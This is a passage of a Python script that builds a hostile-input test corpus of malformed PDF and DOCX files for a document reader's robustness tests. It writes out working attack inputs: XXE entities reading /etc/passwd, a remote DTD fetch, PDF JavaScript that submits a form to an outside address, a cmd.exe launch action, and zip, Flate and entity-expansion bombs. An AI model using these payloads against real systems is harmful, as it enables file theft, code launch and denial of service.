#!/usr/bin/env python3
# ruff: noqa: E501  (rows of hostile bytes read best on one line each)
"""Make the hostile-input corpus: files built to crash, hang or exhaust the reader.

    .venv/bin/python scripts/make_hostile_corpus.py                       # -> tests/hostile/generated
    .venv/bin/python scripts/make_hostile_corpus.py --out /tmp/hostile
    .venv/bin/python scripts/make_hostile_corpus.py --out /tmp/hostile --big   # + 200 MB text, 2 GB export

Every file is written with a row in ``OUT/manifest.json``: its name, kind (pdf, docx,
image, text, chat), what it is, the command that reads it (``check`` or ``batch``) and the
outcome expected (``expect``):

- ``{"outcome": "report"}``, optionally with ``"notice": CODE``: a report, carrying that
  notice;
- ``{"outcome": "error", "code": CODE}`` (CODE may be a list of acceptable codes): a
  clean, translated error with that code;
- ``{"outcome": "report_or_error", "codes": [...]}``: either a report or one of these
  errors (a PDF truncated at an arbitrary offset may still hold its first page);
- for chat exports (``batch``): ``{"outcome": "records"}`` (read whole),
  ``{"outcome": "problem"}`` (a record saying reading stopped part-way) or
  ``{"outcome": "error", "code": "bad_batch_input"}`` (refused before any work).

Everything is deterministic (``random.Random(SEED)``) and quick (a few seconds). Files are
small unless their kind demands size: the 60 MB text file is sparse on disk, and only
``--big`` writes the 200 MB line, the 50 MB DOCX of tables and the 2 GB Telegram export,
which is streamed to disk, never held in memory. tests/hostile/README.md explains the kinds.
"""

from __future__ import annotations

import argparse
import io
import json
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
DEFAULT_OUT = REPO / "tests" / "hostile" / "generated"
SEED = 7
MIB = 1024 * 1024

CONTRACT_LINES = (
    "CONTRACT FOR MILITARY SERVICE IN THE ARMED FORCES OF THE RUSSIAN FEDERATION",
    "The volunteer serves for one year. The contract is extended automatically",
    "until the end of partial mobilisation. The employer keeps the passport of the",
    "volunteer for the whole term of service. The volunteer may not end the contract.",
)
CONTRACT_TEXT = "\n".join(CONTRACT_LINES) + "\n"
RU_TEXT = (
    "Контракт о прохождении военной службы. Паспорт хранится у работодателя. "
    "Срок контракта один год.\n"
)


def report(notice: str | None = None) -> dict[str, Any]:
    return {"outcome": "report", **({"notice": notice} if notice else {})}


def error(code: str | list[str]) -> dict[str, Any]:
    return {"outcome": "error", "code": code}


def either(*codes: str) -> dict[str, Any]:
    return {"outcome": "report_or_error", "codes": list(codes)}


#: A picture with no text: OCR finds none, or OCR is not installed at all.
NO_TEXT = ["no_text_found", "needs_ocr"]


class Corpus:
    """Collects files and their manifest rows."""

    def __init__(self, out: Path, big: bool) -> None:
        self.out = out
        self.big = big
        self.rows: list[dict[str, Any]] = []
        self.rng = random.Random(SEED)

    def add(
        self,
        name: str,
        kind: str,
        what: str,
        expect: dict[str, Any],
        data: bytes | Callable[[Path], None],
        *,
        command: str = "check",
        big: bool = False,
    ) -> None:
        path = self.out / name
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            data(path)
        row: dict[str, Any] = {
            "name": name, "kind": kind, "what": what, "command": command, "expect": expect
        }  # fmt: skip
        if big:
            row["big"] = True
        self.rows.append(row)

    def write_manifest(self) -> None:
        manifest = {"seed": SEED, "big": self.big, "files": self.rows}
        (self.out / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")


# ----------------------------------------------------------------------------- PDF


def pdf_stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def pdf_text_ops(lines: tuple[str, ...] | list[str], size: int = 11) -> bytes:
    body = b" T* ".join(b"(%s) Tj" % line.encode("latin-1") for line in lines)
    return b"BT /F1 %d Tf 40 780 Td %d TL %s ET" % (size, size + 4, body)


def build_pdf(
    objects: dict[int, bytes],
    *,
    root: int = 1,
    trailer: bytes = b"",
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
) -> bytes:
    """A PDF from numbered object bodies, with a correct cross-reference table."""
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (size, root, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def page_objects(
    pages: list[bytes], *, media_box: bytes = b"[0 0 595 842]", catalog_extra: bytes = b""
) -> dict[int, bytes]:
    """Catalog (1), page tree (2), font (3), then a page and its content per entry."""
    objects = {3: FONT}
    kids = []
    number = 4
    for content in pages:
        kids.append(b"%d 0 R" % number)
        objects[number] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources << /Font << /F1 3 0 R >> >>"
            b" /Contents %d 0 R >>" % (media_box, number + 1)
        )
        objects[number + 1] = pdf_stream(content)
        number += 2
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
    return objects


def contract_pdf(pages: int = 3) -> bytes:
    contents = [pdf_text_ops([f"Page {n + 1}.", *CONTRACT_LINES]) for n in range(pages)]
    return build_pdf(page_objects(contents))


def encrypted_pdf(user: str, algorithm: str | None) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(contract_pdf(1))))
    writer.encrypt(user, "owner-secret", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def has_cryptography() -> bool:
    try:
        import cryptography  # noqa: F401
    except ImportError:
        return False
    return True


def add_pdfs(c: Corpus) -> None:
    good = contract_pdf(3)
    c.add("pdf-control.pdf", "pdf", "a sound 3-page PDF (control)", report(), good)
    for index, fraction in enumerate([i / 24 for i in range(1, 24)]):
        cut = max(1, int(len(good) * fraction))
        c.add(
            f"pdf-truncated-{index:02d}.pdf",
            "pdf",
            f"the control PDF cut after {cut} of {len(good)} bytes",
            either("corrupt_file", "empty_input", *NO_TEXT),
            good[:cut],
        )
    c.add("pdf-truncated-no-eof.pdf", "pdf", "the control PDF without its %%EOF line",
          report(), good[: good.rindex(b"%%EOF")])  # fmt: skip
    add_encrypted(c)
    add_broken_xref(c, good)
    add_loops(c)
    add_odd_pdfs(c)


def add_encrypted(c: Corpus) -> None:
    aes_ok = has_cryptography()
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        slug = algorithm.lower()
        needs_crypto = algorithm.startswith("AES")
        c.add(f"pdf-encrypted-user-{slug}.pdf", "pdf",
              f"{algorithm}, with a user password: cannot be opened",
              error("encrypted_file"), encrypted_pdf("secret", algorithm))  # fmt: skip
        c.add(f"pdf-encrypted-owner-only-{slug}.pdf", "pdf",
              f"{algorithm}, owner password only (opens without a password)",
              report() if aes_ok or not needs_crypto else error("encrypted_file"),
              encrypted_pdf("", algorithm))  # fmt: skip
    broken = contract_pdf(1).replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R /Encrypt << /Filter /Standard /V 9 /R 9 /O <00> /U <00> /P -1 >>",
    )
    c.add("pdf-encrypted-unknown-handler.pdf", "pdf", "an /Encrypt dictionary of an unknown "
          "revision", error(["encrypted_file", "corrupt_file"]), broken)  # fmt: skip


def add_broken_xref(c: Corpus, good: bytes) -> None:
    xref_at = good.rindex(b"xref")
    start = good.rindex(b"startxref")
    variants = {
        "shifted": good.replace(b"0000000", b"0000001", 3),
        "startxref-past-end": good[:start] + b"startxref\n999999999\n%%EOF\n",
        "startxref-garbage": good[:start] + b"startxref\nabc\n%%EOF\n",
        "no-xref": good[:xref_at] + b"startxref\n0\n%%EOF\n",
        "no-trailer": good[:xref_at] + b"%%EOF\n",
        "xref-huge-count": good.replace(b"xref\n0 ", b"xref\n0 99999999", 1),
        "xref-negative": good.replace(b"xref\n0 ", b"xref\n-5 ", 1),
        "size-huge": good.replace(b"/Size ", b"/Size 2147483647 /X ", 1),
    }
    for name, data in variants.items():
        c.add(f"pdf-xref-{name}.pdf", "pdf", f"cross-reference table broken: {name}",
              either("corrupt_file", "empty_input", *NO_TEXT), data)  # fmt: skip


def add_loops(c: Corpus) -> None:
    page = pdf_text_ops(list(CONTRACT_LINES))
    base = page_objects([page])
    cycles = {
        "pages-kids-self": {2: b"<< /Type /Pages /Kids [2 0 R 4 0 R] /Count 2 >>"},
        "pages-kids-mutual": {
            2: b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
            6: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 1 >>",
        },
        "parent-loop": {
            4: base[4].replace(b"/Parent 2 0 R", b"/Parent 6 0 R"),
            6: b"<< /Type /Pages /Parent 7 0 R /Kids [4 0 R] /Count 1 >>",
            7: b"<< /Type /Pages /Parent 6 0 R /Kids [6 0 R] /Count 1 >>",
        },
        "count-lies": {2: b"<< /Type /Pages /Kids [4 0 R] /Count 1000000000 >>"},
        "self-reference-object": {6: b"6 0 R", 4: base[4].replace(b">>", b" /Annots 6 0 R >>", 1)},
        "length-self": {5: b"<< /Length 5 0 R >>\nstream\n" + page + b"\nendstream"},
        "resources-self": {4: base[4].replace(b"/Resources <<", b"/Resources 6 0 R /X <<"),
                           6: b"<< /Font << /F1 3 0 R >> /XObject 6 0 R /Parent 6 0 R >>"},
        "contents-array-loop": {4: base[4].replace(b"/Contents 5 0 R", b"/Contents 6 0 R"),
                                6: b"[5 0 R 6 0 R]"},
        "xobject-form-recursion": {
            4: base[4].replace(b"/Font <<", b"/XObject << /X1 6 0 R >> /Font <<"),
            5: pdf_stream(page + b" /X1 Do"),
            6: pdf_stream(b"/X1 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                          b"/Resources << /XObject << /X1 6 0 R >> >>"),
        },
        "outline-loop": {1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
                         6: b"<< /First 7 0 R /Last 7 0 R >>",
                         7: b"<< /Title (a) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R >>"},
    }  # fmt: skip
    for name, changes in cycles.items():
        objects = {**base, **changes}
        c.add(f"pdf-loop-{name}.pdf", "pdf", f"reference loop: {name}",
              either("corrupt_file", "empty_input", *NO_TEXT), build_pdf(objects))  # fmt: skip


def many_pages_pdf(count: int) -> bytes:
    """``count`` pages sharing one content stream and one font."""
    objects = {3: FONT, 4: pdf_stream(pdf_text_ops(list(CONTRACT_LINES)))}
    first = 5
    for index in range(count):
        objects[first + index] = (
            b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >>"
            b" /Contents 4 0 R >>"
        )
    kids = b" ".join(b"%d 0 R" % (first + i) for i in range(count))
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R >>"
    objects[2] = b"<< /Type /Pages /MediaBox [0 0 595 842] /Kids [%s] /Count %d >>" % (
        kids,
        count,
    )
    return build_pdf(objects)


def image_xobject_pdf(filter_name: bytes, data: bytes, text: bool) -> bytes:
    """A page drawing an image stream of ``filter_name`` (with or without a text layer)."""
    draw = b"q 400 0 0 400 100 200 cm /Im1 Do Q"
    content = (pdf_text_ops(list(CONTRACT_LINES)) + b"\n" if text else b"") + draw
    objects = page_objects([content])
    objects[4] = objects[4].replace(b"/Font <<", b"/XObject << /Im1 6 0 R >> /Font <<")
    objects[6] = pdf_stream(
        data,
        b"/Type /XObject /Subtype /Image /Width 4000 /Height 4000 /BitsPerComponent 1 "
        b"/ColorSpace /DeviceGray /Filter /%s" % filter_name,
    )
    return build_pdf(objects)


def add_odd_pdfs(c: Corpus) -> None:
    rng = c.rng
    c.add("pdf-10000-pages.pdf", "pdf", "10,000 pages sharing one content stream",
          report("pages_not_read"), many_pages_pdf(10_000))  # fmt: skip
    c.add("pdf-600-pages.pdf", "pdf", "600 pages (just over the page limit)",
          report("pages_not_read"), many_pages_pdf(600))  # fmt: skip
    wide = b"[0 0 283465 842]"  # 100 m wide, in points
    c.add(
        "pdf-100m-wide-text.pdf",
        "pdf",
        "a page 100 m wide with a text layer",
        report(),
        build_pdf(page_objects([pdf_text_ops(list(CONTRACT_LINES))], media_box=wide)),
    )
    c.add(
        "pdf-100m-wide-blank.pdf",
        "pdf",
        "a page 100 m wide and no text: rendered for OCR within the pixel cap",
        error(NO_TEXT),
        build_pdf(page_objects([b""], media_box=wide)),
    )
    c.add(
        "pdf-100m-square-blank.pdf",
        "pdf",
        "a page 100 m x 100 m, no text",
        error(NO_TEXT),
        build_pdf(page_objects([b""], media_box=b"[0 0 283465 283465]")),
    )
    c.add(
        "pdf-userunit-huge.pdf",
        "pdf",
        "/UserUnit 75000 on a blank page",
        error(NO_TEXT),
        build_pdf(page_objects([b""], media_box=b"[0 0 14400 14400] /UserUnit 75000")),
    )
    c.add("pdf-mediabox-negative.pdf", "pdf", "an inverted, NaN-like MediaBox",
          either("corrupt_file", *NO_TEXT),
          build_pdf(page_objects([pdf_text_ops(list(CONTRACT_LINES))],
                                 media_box=b"[0 0 -1e38 1e38]")))  # fmt: skip
    js = b"/OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://x'\\);) >>"
    c.add(
        "pdf-javascript-openaction.pdf",
        "pdf",
        "JavaScript run on open (/OpenAction)",
        report(),
        build_pdf(page_objects([pdf_text_ops(list(CONTRACT_LINES))], catalog_extra=js)),
    )
    names = b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (while\\(1\\){}) >>] >> >>"
    c.add("pdf-javascript-names.pdf", "pdf", "document-level JavaScript (an endless loop)",
          report(), build_pdf(page_objects([pdf_text_ops(list(CONTRACT_LINES))],
                                           catalog_extra=names + b" /AA << /WC << /S /Launch /F (cmd.exe) >> >>")))  # fmt: skip
    for filter_name in (b"JBIG2Decode", b"JPXDecode", b"CCITTFaxDecode", b"DCTDecode"):
        junk = bytes(rng.getrandbits(8) for _ in range(2048))
        slug = filter_name.decode().lower()
        c.add(
            f"pdf-image-{slug}-text.pdf",
            "pdf",
            f"a text page drawing an undecodable {filter_name.decode()} image",
            report(),
            image_xobject_pdf(filter_name, junk, True),
        )
        c.add(f"pdf-image-{slug}-only.pdf", "pdf", f"a page holding only an undecodable "
              f"{filter_name.decode()} image", error(NO_TEXT), image_xobject_pdf(filter_name, junk, False))  # fmt: skip
    jbig2_header = b"\x97JB2\r\n\x1a\n\x01\x00\x00\x00\x01" + bytes(64)
    c.add(
        "pdf-image-jbig2-header.pdf",
        "pdf",
        "a JBIG2 stream with a file header (not allowed in PDF)",
        error(NO_TEXT),
        image_xobject_pdf(b"JBIG2Decode", jbig2_header, False),
    )
    c.add("pdf-image-flate-bomb.pdf", "pdf", "a Flate image stream inflating to 2 GB of "
          "pixels (declared 46341 x 46341 grey)", either("corrupt_file", *NO_TEXT),
          flate_bomb_image_pdf())  # fmt: skip
    c.add("pdf-content-flate-bomb.pdf", "pdf", "a content stream inflating to 100 MB",
          either("corrupt_file", *NO_TEXT), flate_bomb_content_pdf())  # fmt: skip
    add_garbage_glyphs(c)
    zipped = make_zip({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"})
    c.add("pdf-really-zip.pdf", "pdf", "a ZIP archive (a DOCX) named .pdf",
          either("corrupt_file", "empty_input"), zipped)  # fmt: skip
    c.add(
        "pdf-really-plain-zip.pdf",
        "pdf",
        "a plain ZIP of text files named .pdf",
        error("unsupported_format"),
        make_zip({"a.txt": b"hello", "b.txt": b"world"}),
    )
    c.add(
        "pdf-zip-claiming-pdf.pdf",
        "pdf",
        "a ZIP behind a %PDF- header",
        error(["corrupt_file", "empty_input"]),
        b"%PDF-1.4\n" + make_zip({"a.txt": b"x" * 100}),
    )
    c.add("pdf-empty.pdf", "pdf", "zero bytes", error("empty_input"), b"")
    c.add(
        "pdf-header-only.pdf",
        "pdf",
        "only %PDF-1.7",
        error(["corrupt_file", "empty_input"]),
        b"%PDF-1.7\n",
    )
    c.add(
        "pdf-header-eof.pdf",
        "pdf",
        "a header and %%EOF, nothing between",
        error(["corrupt_file", "empty_input"]),
        b"%PDF-1.7\n%%EOF\n",
    )
    c.add("pdf-no-pages.pdf", "pdf", "a catalog whose page tree is empty",
          error(["empty_input", "corrupt_file"]),
          build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}))  # fmt: skip
    noise = bytes(rng.getrandbits(8) for _ in range(4096))
    c.add(
        "pdf-header-then-noise.pdf",
        "pdf",
        "%PDF- then 4 KB of random bytes",
        error(["corrupt_file", "empty_input"]),
        b"%PDF-1.5\n" + noise,
    )
    deep = b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * 100_000 + b"]" * 100_000 + b" >>"
    c.add("pdf-deep-array.pdf", "pdf", "an array nested 100,000 deep in the catalog",
          either("corrupt_file", *NO_TEXT), build_pdf({**page_objects([pdf_text_ops(list(CONTRACT_LINES))]), 1: deep}))  # fmt: skip
    deep_dict = b"<< /A " * 50_000 + b"1" + b" >>" * 50_000
    c.add("pdf-deep-dict-content.pdf", "pdf", "a page with a dictionary nested 50,000 deep",
          either("corrupt_file", *NO_TEXT),
          build_pdf({**page_objects([pdf_text_ops(list(CONTRACT_LINES))]), 6: deep_dict}))  # fmt: skip
    ops = b"q " * 200_000 + pdf_text_ops(list(CONTRACT_LINES)) + b" Q" * 200_000
    c.add("pdf-200k-saves.pdf", "pdf", "200,000 nested graphics-state saves around the text",
          either("corrupt_file", *NO_TEXT), build_pdf(page_objects([ops])))  # fmt: skip


def flate_bomb_image_pdf() -> bytes:
    bomb = zlib.compress(bytes(64 * MIB), 9)
    objects = page_objects([b"q 400 0 0 400 100 200 cm /Im1 Do Q"])
    objects[4] = objects[4].replace(b"/Font <<", b"/XObject << /Im1 6 0 R >> /Font <<")
    objects[6] = pdf_stream(bomb, b"/Type /XObject /Subtype /Image /Width 46341 /Height 46341 "
                            b"/BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode")  # fmt: skip
    return build_pdf(objects)


def flate_bomb_content_pdf() -> bytes:
    bomb = zlib.compress(b" " * (100 * MIB), 9)
    objects = page_objects([b""])
    objects[5] = pdf_stream(bomb, b"/Filter /FlateDecode")
    return build_pdf(objects)


def add_garbage_glyphs(c: Corpus) -> None:
    """Text layers whose glyphs map to nothing readable."""
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def "
        b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <00> <FF> <E000> "
        b"endbfrange endcmap CMapName currentdict /CMap defineresource pop end end"
    )
    objects = page_objects([pdf_text_ops(list(CONTRACT_LINES))])
    objects[3] = FONT.replace(b">>", b" /ToUnicode 6 0 R >>")
    objects[6] = pdf_stream(cmap)
    c.add("pdf-glyphs-pua.pdf", "pdf", "a text layer mapped to private-use characters "
          "(the page is read by OCR instead)", either(*NO_TEXT), build_pdf(objects))  # fmt: skip
    controls = page_objects([pdf_text_ops(["\x01\x02\x03\x04\x05" * 20] * 4)])
    c.add("pdf-glyphs-controls.pdf", "pdf", "a text layer of control characters",
          either(*NO_TEXT), build_pdf(controls))  # fmt: skip
    unmapped = page_objects([pdf_text_ops(list(CONTRACT_LINES))])
    unmapped[3] = b"<< /Type /Font /Subtype /Type0 /BaseFont /Nope /Encoding /Identity-H >>"
    c.add("pdf-glyphs-type0-no-cmap.pdf", "pdf", "a Type0 font with no descendant and no "
          "ToUnicode", either("corrupt_file", *NO_TEXT), build_pdf(unmapped))  # fmt: skip


# ---------------------------------------------------------------------------- DOCX


def make_zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def paragraphs_xml(lines: list[str] | tuple[str, ...]) -> str:
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)


def document_xml(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f"<w:document {W_NS}><w:body>{body}</w:body></w:document>"
    ).encode()


def docx(document: bytes, **extra: bytes) -> bytes:
    members = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS,
               "word/document.xml": document}  # fmt: skip
    members.update({name.replace("__", "/"): data for name, data in extra.items()})
    return make_zip(members)


def zip_bomb(member: str, mib: int, others: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in others.items():
            archive.writestr(name, data)
        with archive.open(member, "w", force_zip64=True) as handle:
            chunk = bytes(MIB)
            for _ in range(mib):
                handle.write(chunk)
    return out.getvalue()


def with_declared_size(archive: bytes, member: str, declared: int) -> bytes:
    data = bytearray(archive)
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        length = int.from_bytes(data[at + 28 : at + 30], "little")
        if bytes(data[at + 46 : at + 46 + length]) == member.encode():
            data[at + 24 : at + 28] = declared.to_bytes(4, "little")
        at += 46
    return bytes(data)


def overlapping_zip() -> bytes:
    """Two central-directory entries pointing at one local header (Fifield's overlap)."""
    data = bytearray(docx(document_xml(paragraphs_xml(CONTRACT_LINES))))
    cd = data.find(b"PK\x01\x02")
    end = data.find(b"PK\x05\x06")
    entries = bytes(data[cd:end])
    doc_entry_at = entries.find(b"word/document.xml") - 46
    doc_entry = entries[doc_entry_at : doc_entry_at + 46 + len(b"word/document.xml")]
    copy = bytearray(doc_entry)
    copy[46:] = b"word/documenX.xml"
    new_cd = entries + bytes(copy)
    eocd = bytearray(data[end : end + 22])
    count = int.from_bytes(eocd[10:12], "little") + 1
    eocd[8:10] = count.to_bytes(2, "little")
    eocd[10:12] = count.to_bytes(2, "little")
    eocd[12:16] = len(new_cd).to_bytes(4, "little")
    return bytes(data[:cd]) + new_cd + bytes(eocd)


def big_tables_docx(target_bytes: int) -> Callable[[Path], None]:
    """A DOCX whose document.xml is about ``target_bytes`` of table rows, streamed."""
    words = RU_TEXT.split() + " ".join(CONTRACT_LINES).split()

    def write(path: Path) -> None:
        rng = random.Random(SEED)
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", CONTENT_TYPES)
            archive.writestr("_rels/.rels", RELS)
            with archive.open("word/document.xml", "w", force_zip64=True) as handle:
                handle.write(document_xml("").split(b"<w:body>")[0] + b"<w:body><w:tbl>")
                written = 0
                while written < target_bytes:
                    cells = "".join(
                        f"<w:tc><w:p><w:r><w:t>{' '.join(rng.choices(words, k=6))} {rng.randrange(10**6)}"
                        f"</w:t></w:r></w:p></w:tc>"
                        for _ in range(4)
                    )
                    row = f"<w:tr>{cells}</w:tr>".encode()
                    handle.write(row)
                    written += len(row)
                handle.write(b"</w:tbl></w:body></w:document>")

    return write


def add_docx(c: Corpus) -> None:
    body = paragraphs_xml(CONTRACT_LINES)
    good = docx(document_xml(body))
    c.add("docx-control.docx", "docx", "a minimal sound DOCX (control)", report(), good)
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS}
    c.add("docx-bomb-document.docx", "docx", "document.xml inflating 300 MB of zeros",
          error(["corrupt_file", "input_too_large"]), zip_bomb("word/document.xml", 300, parts))  # fmt: skip
    c.add("docx-bomb-media.docx", "docx", "a 100 MB zero-filled image member beside a sound body",
          error("corrupt_file"), zip_bomb("word/media/image1.png", 100, {**parts, "word/document.xml": document_xml(body)}))  # fmt: skip
    c.add("docx-bomb-declared-4gb.docx", "docx", "a member that declares 4 GB unpacked",
          error("input_too_large"), with_declared_size(good, "word/document.xml", 0xFFFFFFF0))  # fmt: skip
    c.add("docx-declared-size-lies-small.docx", "docx", "document.xml declares 10 bytes but "
          "holds more", error(["corrupt_file", "empty_input"]), with_declared_size(good, "word/document.xml", 10))  # fmt: skip
    many = {**parts, "word/document.xml": document_xml(body)}
    many.update({f"word/media/x{i}.bin": b"" for i in range(12_000)})
    c.add("docx-12000-members.docx", "docx", "12,000 empty members", error("corrupt_file"),
          make_zip(many, zipfile.ZIP_STORED))  # fmt: skip
    c.add("docx-overlapping-entries.docx", "docx", "two directory entries share one local "
          "header (overlapping files)", either("corrupt_file"), overlapping_zip())  # fmt: skip
    dup = io.BytesIO()
    with zipfile.ZipFile(dup, "w") as archive, _quiet_duplicates():
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", document_xml(body))
        archive.writestr("word/document.xml", document_xml(paragraphs_xml(["second copy"] * 3)))
    c.add("docx-duplicate-names.docx", "docx", "word/document.xml twice", either("corrupt_file"),
          dup.getvalue())  # fmt: skip
    c.add("docx-nested-docx.docx", "docx", "a DOCX whose only body is another DOCX member",
          error(["corrupt_file", "empty_input"]),
          make_zip({**parts, "word/document.xml": good}))  # fmt: skip
    c.add(
        "docx-nested-zip-member.docx",
        "docx",
        "a sound DOCX carrying a nested zip bomb",
        report(),
        docx(document_xml(body), word__embeddings__x_zip=zip_bomb("a", 50, {})),
    )
    add_xml_attacks(c, body)
    add_docx_parts(c, body, good)
    c.add("docx-tables-5mb.docx", "docx", "5 MB of table XML (a real reader's worst day)",
          report("text_not_read"), big_tables_docx(5 * MIB))  # fmt: skip
    if c.big:
        c.add("docx-tables-50mb.docx", "docx", "50 MB of table XML", either("input_too_large"),
              big_tables_docx(50 * MIB), big=True)  # fmt: skip


class _quiet_duplicates:
    def __enter__(self) -> None:
        import warnings

        self._catch = warnings.catch_warnings()
        self._catch.__enter__()
        warnings.simplefilter("ignore")

    def __exit__(self, *args: Any) -> None:
        self._catch.__exit__(*args)


LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY a "lollollollollollollollollollol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + "]>"
)
XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_PARAM = '<!DOCTYPE w:document [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
XXE_REMOTE = '<!DOCTYPE w:document SYSTEM "http://127.0.0.1:9/evil.dtd">'


def add_xml_attacks(c: Corpus, body: str) -> None:
    laughs_body = body + paragraphs_xml(["&j;"])
    c.add("docx-billion-laughs.docx", "docx", "entity expansion (billion laughs) in the body",
          either("corrupt_file"), docx(document_xml(laughs_body, LAUGHS)))  # fmt: skip
    quadratic = '<!DOCTYPE w:document [<!ENTITY a "' + "x" * 50_000 + '">]>'
    c.add("docx-quadratic-blowup.docx", "docx", "one 50 KB entity used 5,000 times",
          either("corrupt_file"), docx(document_xml(body + paragraphs_xml(["&a;" * 5000]), quadratic)))  # fmt: skip
    xxe_body = body + paragraphs_xml(["&xxe;"])
    c.add("docx-xxe-body.docx", "docx", "an external entity naming /etc/passwd in the body "
          "(must not be read)", either("corrupt_file"), docx(document_xml(xxe_body, XXE)))  # fmt: skip
    c.add("docx-xxe-parameter.docx", "docx", "an external parameter entity naming /etc/passwd",
          either("corrupt_file"), docx(document_xml(xxe_body, XXE_PARAM)))  # fmt: skip
    c.add("docx-xxe-remote-dtd.docx", "docx", "a DTD on a network address (must not be fetched)",
          either("corrupt_file"), docx(document_xml(body, XXE_REMOTE)))  # fmt: skip
    ct = CONTENT_TYPES.replace(b"?>", b"?>" + XXE.replace("w:document", "Types").encode(), 1)
    c.add("docx-xxe-content-types.docx", "docx", "XXE in [Content_Types].xml",
          either("corrupt_file"), make_zip({"[Content_Types].xml": ct, "_rels/.rels": RELS,
                                            "word/document.xml": document_xml(body)}))  # fmt: skip
    core = (b'<?xml version="1.0"?>' + XXE.replace("w:document", "cp:coreProperties").encode()
            + b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
            b'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            b"<dc:title>&xxe;</dc:title></cp:coreProperties>")  # fmt: skip
    c.add("docx-xxe-core-props.docx", "docx", "XXE in docProps/core.xml", either("corrupt_file"),
          docx(document_xml(body), docProps__core_xml=core))  # fmt: skip
    xinclude = body + (
        '<w:p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        'parse="text"/></w:p>'
    )
    c.add("docx-xinclude.docx", "docx", "an XInclude of /etc/passwd", either("corrupt_file"),
          docx(document_xml(xinclude)))  # fmt: skip
    deep = (
        body
        + "<w:sdt><w:sdtContent>" * 20_000
